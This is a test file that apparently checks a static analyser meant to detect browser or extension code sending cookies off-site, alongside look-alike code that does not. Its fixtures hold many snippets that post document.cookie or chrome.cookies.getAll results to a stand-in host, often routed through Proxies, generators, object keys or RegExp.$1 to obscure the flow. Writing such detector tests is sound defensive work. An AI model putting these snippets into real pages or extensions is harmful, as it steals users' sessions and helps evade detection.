import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sentKinds } from '../../../testing/sent-kinds.ts';

const post = (value: string): string =>
  `fetch('https://in.a.dev/a', { method: 'POST', body: JSON.stringify(${value}) })`;

/** Cookies that get into what is sent by another name of it, as its key, or by a function that the language runs. */
const thefts: Readonly<Record<string, string>> = {
  'loop writes': `const list = [{}, {}]; for (const x of list) x.c = {text}; ${post('list')};`,
  'forEach writes': `const list = [{}, {}]; list.forEach((x) => { x.c = {text}; }); ${post('list')};`,
  'loop writes deep': `const st = { items: [{}, {}] }; for (const x of st.items) x.c = {text}; ${post('st')};`,
  'add helper': `const st = { items: [] }; function add(l, v) { l.push(v); } add(st.items, {text}); ${post('st')};`,
  'set helper': `const st = { info: {} }; function put(o, k, v) { o[k] = v; } put(st.info, 'c', {text}); ${post('st')};`,
  'helper of helper': `const st = { items: [] }; function add(l, v) { l.push(v); } function add2(l, v) { add(l, v); } add2(st.items, {text}); ${post('st')};`,
  'helper this': `class A { constructor() { this.items = []; } go() { add(this.items, {text}); ${post('this.items')} } } function add(l, v) { l.push(v); } new A().go();`,
  'function get list': `const l = []; function items() { return l; } items().push({text}); ${post('l')};`,
  'function get list 2': `const l = []; function items() { return l; } items().push({text}); ${post('items()')};`,
  'key literal': `const h = {}; h[{text}] = 1; ${post('h')};`,
  'key keys': `const h = {}; h[{text}] = 1; ${post('Object.keys(h)')};`,
  'key computed': `const h = { [{text}]: 1 }; ${post('h')};`,
  'key computed keys': `const h = { [{text}]: 1 }; ${post('Object.keys(h)[0]')};`,
  'key for in': `const h = {}; h[{text}] = 1; for (const k in h) ${post('k')};`,
  'key entries': `const h = {}; h[{text}] = 1; for (const [k, v] of Object.entries(h)) ${post('k')};`,
  'key ownKeys': `const h = {}; h[{text}] = true; ${post('Reflect.ownKeys(h)')};`,
  'key getOwnPropertyNames': `const h = {}; h[{text}] = true; ${post('Object.getOwnPropertyNames(h)')};`,
  'key fromEntries': `const h = Object.fromEntries([[{text}, 1]]); ${post('h')};`,
  'map alias': `const m = new Map(); const n = m; n.set('a', {}); n.get('a').c = {text}; ${post('[...m.values()]')};`,
  'map entry named': `const m = new Map(); m.set('a', {}); const e = m.get('a'); e.c = {text}; ${post('[...m.values()]')};`,
  'map entry named get': `const m = new Map(); m.set('a', {}); const e = m.get('a'); e.c = {text}; ${post("m.get('a')")};`,
  'map entry list': `const m = new Map(); m.set('a', []); const e = m.get('a'); e.push({text}); ${post("m.get('a')")};`,
  'map entry list b': `const m = new Map(); const { host } = location; if (!m.has(host)) m.set(host, []); const e = m.get(host); e.push({text}); ${post('[...m]')};`,
  'map deep': `const m = new Map(); m.set('a', { l: [] }); m.get('a').l.push({text}); ${post('[...m.values()]')};`,
  'map deep b': `const m = new Map(); m.set('a', { l: {} }); m.get('a').l.c = {text}; ${post("m.get('a')")};`,
  'map assign': `const m = new Map(); m.set('a', {}); Object.assign(m.get('a'), { c: {text} }); ${post("m.get('a')")};`,
  'map values loop': `const m = new Map(); m.set('a', {}); for (const e of m.values()) e.c = {text}; ${post("m.get('a')")};`,
  'map loop': `const m = new Map(); m.set('a', {}); for (const [, e] of m) e.c = {text}; ${post('[...m.values()]')};`,
  'map forEach': `const m = new Map(); m.set('a', {}); m.forEach((e) => { e.c = {text}; }); ${post('[...m.values()]')};`,
  'map of this': `class C { m = new Map(); go() { this.m.set('a', {}); const e = this.m.get('a'); e.c = {text}; ${post('[...this.m.values()]')} } } new C().go();`,
  'next value': `function* g() { const v = yield; ${post('v')}; } const it = g(); it.next(); it.next({text});`,
  'next value loop': `function* g() { while (true) { const v = yield; ${post('v')}; } } const it = g(); it.next(); it.next({text});`,
  'next value param':
    "function* sink(url) { for (;;) { const v = yield 1; fetch(url, { method: 'POST', body: v }); } } const s = sink('https://in.a.dev/a'); s.next(); s.next({text});",
  'next value back': `function* g() { const v = yield; yield v; } const it = g(); it.next(); ${post(`it.next({text}).value`)};`,
  'next async': `async function* g() { const v = yield; ${post('v')}; } const it = g(); it.next(); it.next({text});`,
  'reduceRight compose': `const compose = (...fns) => (x) => fns.reduceRight((v, f) => f(v), x); const send = (v) => ${post('v')}; compose(send, (s) => s.trim(), () => {text})();`,
  'reduceRight compose 2': `const compose = (...fns) => (x) => fns.reduceRight((v, f) => f(v), x); const send = (v) => ${post('v')}; compose(send, (s) => s.trim())({text});`,
  'reduceRight list': `const send = (v) => ${post('v')}; [send, (s) => s.trim()].reduceRight((v, f) => f(v), {text});`,
  'RegExp.$1': `/(.*)/.test({text}); ${post('RegExp.$1')};`,
  'RegExp.$1 just now': `const h = /b(.)/.test({text}) ? RegExp.$1 || 'x' : 'y'; ${post('h')};`,
  'RegExp.$1 of an expression that is not asked': `{text}.match(/(.*)/); let h; if (0) /b(.)/.test('b'), h = RegExp.$1; else h = RegExp.$1; ${post('h')};`,
  'RegExp.$1 match': `if ({text}.match(/sid=(\\w+)/)) ${post('RegExp.$1')};`,
  'RegExp.lastMatch': `/(.*)/.exec({text}); ${post('RegExp.lastMatch')};`,
  'RegExp[’$&’]': `/(.*)/.exec({text}); ${post("RegExp['$&']")};`,
  'RegExp.input': `/(.*)/.test({text}); ${post('RegExp.input')};`,
  'arguments write': `function f(a) { arguments[0] = {text}; ${post('a')}; } f(1);`,
  'arguments write read': `function f(a) { arguments[0] = {text}; ${post('arguments[0]')}; } f(1);`,
  'arguments passed': `function g(v) { ${post('v')} } function f() { arguments[0] = {text}; g.apply(this, arguments); } f(1);`,
  'proxy set': `const st = new Proxy({}, { set(t, k, v) { t[k] = v; ${post('v')}; return true; } }); st.c = {text};`,
  'proxy target write': `const t = {}; const p = new Proxy(t, {}); p.c = {text}; ${post('t')};`,
  'proxy apply trap': `const f = new Proxy(() => {}, { apply(t, th, args) { ${post('args[0]')}; } }); f({text});`,
  'setter define': `const o = {}; Object.defineProperty(o, 'c', { set(v) { ${post('v')}; } }); o.c = {text};`,
  'FormData blob':
    "const f = new FormData(); f.append('f', new Blob([JSON.stringify({ c: {text} })], { type: 'application/json' }), 'a.json'); fetch('https://in.a.dev/a', { method: 'POST', body: f });",
  'xhr header':
    "const x = new XMLHttpRequest(); x.open('GET', 'https://in.a.dev/a'); x.setRequestHeader('X-C', {text}); x.send();",
  partial:
    "const partial = (f, ...a) => (...b) => f(...a, ...b); const send = partial((u, v) => fetch(u, { method: 'POST', body: v }), 'https://in.a.dev/a'); send({text});",
  'jquery each':
    "var out = []; $.each([{text}], function (i, v) { out.push(v); }); $.post('https://in.a.dev/a', { out: out });",
  'jquery deferred': `var d = $.Deferred(); d.done(function (v) { ${post('v')}; }); d.resolve({text});`,
  'react memo': `function C() { const c = useMemo(() => {text}, []); useEffect(() => { ${post('c')}; }, [c]); }`,
  'react callback': `function C() { const send = useCallback((v) => { ${post('v')}; }, []); useEffect(() => { send({text}); }, []); }`,
  'react reducer': `function C() { const [s, dispatch] = useReducer((s, a) => ({ ...s, c: a.c }), {}); useEffect(() => { dispatch({ c: {text} }); }, []); useEffect(() => { ${post('s')}; }, [s]); }`,
  'react props': `function Child(p) { useEffect(() => { ${post('p.c')}; }, []); } function P() { return React.createElement(Child, { c: {text} }); }`,
  'react jsx props': `function Child({ c }) { useEffect(() => { ${post('c')}; }, []); } function P() { return jsx(Child, { c: {text} }); }`,
  'vue ref': `const c = ref(''); onMounted(() => { c.value = {text}; }); watch(c, (v) => { ${post('v')}; });`,
  'vue computed': `const c = computed(() => {text}); onMounted(() => { ${post('c.value')}; });`,
  'json replacer':
    "fetch('https://in.a.dev/a', { method: 'POST', body: JSON.stringify({ c: 1 }, (k, v) => k === 'c' ? {text} : v) });",
  'copyWithin fill': `${post(`new Array(3).fill({text})`)};`,
};

/** The same in a service worker. */
const inWorkers: Readonly<Record<string, string>> = {
  'getAll.call': `chrome.cookies.getAll.call(chrome.cookies, {}, (c) => { ${post('c')}; });`,
  'getAll.apply': `chrome.cookies.getAll.apply(chrome.cookies, [{}, (c) => { ${post('c')}; }]);`,
  'getAll.call promise': `chrome.cookies.getAll.call(chrome.cookies, {}).then((c) => { ${post('c')}; });`,
  'getAll.apply await': `(async () => { const c = await chrome.cookies.getAll.apply(chrome.cookies, [{}]); ${post('c')}; })();`,
  'Reflect.apply': `Reflect.apply(chrome.cookies.getAll, chrome.cookies, [{}, (c) => { ${post('c')}; }]);`,
  'Reflect.apply promise': `Reflect.apply(chrome.cookies.getAll, chrome.cookies, [{}]).then((c) => { ${post('c')}; });`,
  'Function.prototype.call.call': `Function.prototype.call.call(chrome.cookies.getAll, chrome.cookies, {}, (c) => { ${post('c')}; });`,
  'api alias call': `const { cookies } = chrome; cookies.getAll.call(cookies, {}, function (c) { ${post('c')}; });`,
  'loop adds': `(async () => { const list = await chrome.tabs.query({}); for (const t of list) t.c = await chrome.cookies.getAll({ url: t.url }); ${post('list')}; })();`,
  'batch map': `const by = {}; chrome.cookies.onChanged.addListener(({ cookie }) => { (by[cookie.domain] ||= {})[cookie.name] = cookie.value; }); setInterval(() => { ${post('by')}; }, 99);`,
  'batch map 3': `const by = new Map(); chrome.cookies.onChanged.addListener(({ cookie }) => { if (!by.has(cookie.domain)) by.set(cookie.domain, {}); by.get(cookie.domain)[cookie.name] = cookie.value; }); setInterval(() => { ${post('[...by.entries()]')}; }, 99);`,
  'keys of domain': `chrome.cookies.getAll({}, (c) => { const g = {}; c.forEach((x) => { g[x.value] = 1; }); ${post('Object.keys(g)')}; });`,
};

/** Code like it that sends none. */
const harmless: Readonly<Record<string, string>> = {
  'copy slice push': `const l = [1]; const k = l.slice(); k.push(document.cookie); ${post('l')};`,
  'copy spread push': `const l = [1]; const k = [...l]; k.push(document.cookie); ${post('l')};`,
  'copy from push': `const l = [1]; const k = Array.from(l); k[0] = document.cookie; ${post('l')};`,
  'filter push': `const l = [{}]; const k = l.filter(Boolean); k.push(document.cookie); ${post('l')};`,
  'other entry': `const m = new Map(); m.set('a', {}); m.set('b', {}); const e = m.get('a'); e.c = document.cookie; ${post("m.get('b')")};`,
  'other entry helper': `const st = { a: [], b: [] }; function add(l, v) { l.push(v); } add(st.a, document.cookie); add(st.b, 1); ${post('st.b')};`,
  'helper other value': `const a = [], b = []; function add(l, v) { l.push(v); } add(a, document.cookie); add(b, 1); ${post('b')};`,
  'loop sibling': `const list = [{}, {}]; for (const x of list) { x.c = document.cookie; x.d = 1; } ${post('list.map((x) => x.d)')};`,
  'loop other list': `const list = [{}], other = [{}]; for (const x of list) x.c = document.cookie; ${post('other')};`,
  'map key loop': `const m = new Map(); m.set('a', {}); for (const [k, e] of m) e.c = document.cookie; ${post('[...m.keys()]')};`,
  'this other': `class A { constructor() { this.a = []; this.b = []; } go() { add(this.a, document.cookie); ${post('this.b')} } } function add(l, v) { l.push(v); } new A().go();`,
  'class other this': `class A { constructor() { this.a = []; } go() { const l = this.a; l.push(document.cookie); } } class B { constructor() { this.a = []; } go() { ${post('this.a')} } } new A().go(); new B().go();`,
  'fn list other': `const l = [], k = []; function items() { return l; } items().push(document.cookie); ${post('k')};`,
  'per call list': `function items() { const l = []; return l; } items().push(document.cookie); ${post('items()')};`,
  'value of key': `const h = {}; h[document.cookie] = 1; ${post('Object.values(h)')};`,
  'size of keys': `const h = {}; h[document.cookie] = 1; ${post('Object.keys(h).length')};`,
  'size of map': `const m = new Map(); m.set(document.cookie, 1); ${post('m.size')};`,
  'member by key': `const h = { a: 1 }; ${post('h[document.cookie]')};`,
  'values of map': `const m = new Map(); m.set(document.cookie, 1); ${post('[...m.values()]')};`,
  'has key': `const h = {}; h[document.cookie] = 1; ${post("'a' in h")};`,
  'other object of key': `const h = {}, g = {}; h[document.cookie] = 1; ${post('g')};`,
  'next other': `function* g() { const v = yield; ${post('v')}; } function* f() { const v = yield; console.log(v); } const i = g(), j = f(); i.next(); j.next(document.cookie); i.next(2);`,
  'next none': `function* g() { yield document.cookie; } const i = g(); i.next(); ${post('i.next(1).done')};`,
  'RegExp just now': `const c = document.cookie; c.match(/a(.)/); const h = /b(.)/.test(navigator.userAgent) ? RegExp.$1 || 'x' : 'y'; ${post('h')};`,
  'RegExp other': `const c = document.cookie; if (/a(.)/.test(navigator.userAgent)) ${post('RegExp.$1')};`,
  'arguments other': `function f(a, b) { arguments[0] = document.cookie; ${post('b')}; } f(1, 2);`,
  'arguments other f': `function f(a) { arguments[0] = document.cookie; } function g(a) { ${post('a')}; } f(1); g(2);`,
  'compose wrong side': `const compose = (...fns) => (x) => fns.reduceRight((v, f) => f(v), x); const send = (v) => ${post('v')}; compose(() => document.cookie, send)(1);`,
  'proxy trap other': `const a = new Proxy({}, { set(t, k, v) { ${post('v')}; return true; } }); const b = {}; b.c = document.cookie; a.c = 1;`,
  'proxy trap key': `const a = new Proxy({}, { set(t, k, v) { ${post('k')}; return true; } }); a.c = document.cookie;`,
  'apply other': `const f = new Proxy(() => {}, { apply(t, th, args) { ${post('args[0]')}; } }); f(1, document.cookie);`,
  'setter other': `const o = {}; Object.defineProperty(o, 'c', { set(v) { ${post('v')}; } }); o.d = document.cookie; o.c = 1;`,
  'memo other': `function C() { const c = useMemo(() => 1, [document.cookie]); ${post('c')}; }`,
  'reducer other': `function C() { const [s, dispatch] = useReducer((s, a) => ({ ...s, c: a.c }), {}); dispatch({ d: document.cookie, c: 1 }); ${post('s')}; }`,
  'props other': `function Child(p) { ${post('p.c')}; } function P() { return React.createElement(Child, { d: document.cookie, c: 1 }); }`,
  'props other child': `function Child(p) { ${post('p.c')}; } function Kid(p) { p.c; } function P() { return [React.createElement(Child, { c: 1 }), React.createElement(Kid, { c: document.cookie })]; }`,
  'computed other': `const c = computed(() => 1), d = computed(() => document.cookie); ${post('c.value')};`,
  'watch other': `const c = ref(1), d = ref(''); d.value = document.cookie; watch(c, (v) => { ${post('v')}; });`,
  'each index': `$.each([document.cookie], function (i, v) { ${post('i')}; });`,
  'deferred other': `var d = $.Deferred(), e = $.Deferred(); d.done(function (v) { ${post('v')}; }); e.resolve(document.cookie); d.resolve(1);`,
  replacer: `const c = document.cookie; fetch('https://in.a.dev/a', { method: 'POST', body: JSON.stringify({ c: 1 }, (k, v) => v) });`,
  'tag other': `const u = (s, a, b) => b; fetch(u\`https://in.a.dev/\${document.cookie}\${1}\`);`,
  'partial other': `const partial = (f, ...a) => (...b) => f(...a, ...b); const send = partial((u, v, w) => fetch('https://in.a.dev/a', { method: 'POST', body: u }), 1); send(document.cookie);`,
};

describe('cookies that get into what is sent', () => {
  for (const [name, code] of Object.entries(thefts)) {
    it(name, () => {
      assert.ok(sentKinds('page', code.replaceAll('{text}', 'document.cookie')).has('cookies'));
      const calm = code.replaceAll('{text}', '(void document.cookie, 5)');
      assert.ok(!sentKinds('page', calm).has('cookies'));
    });
  }
  for (const [name, code] of Object.entries(inWorkers)) {
    it(name, () => {
      assert.ok(sentKinds('worker', code).has('cookies'));
      assert.ok(!sentKinds('worker', code.replaceAll('cookies', 'alarms')).has('cookies'));
    });
  }
});

describe('cookies that are not sent', () => {
  for (const [name, code] of Object.entries(harmless)) {
    it(name, () => {
      assert.ok(!sentKinds('page', code).has('cookies'));
    });
  }
});
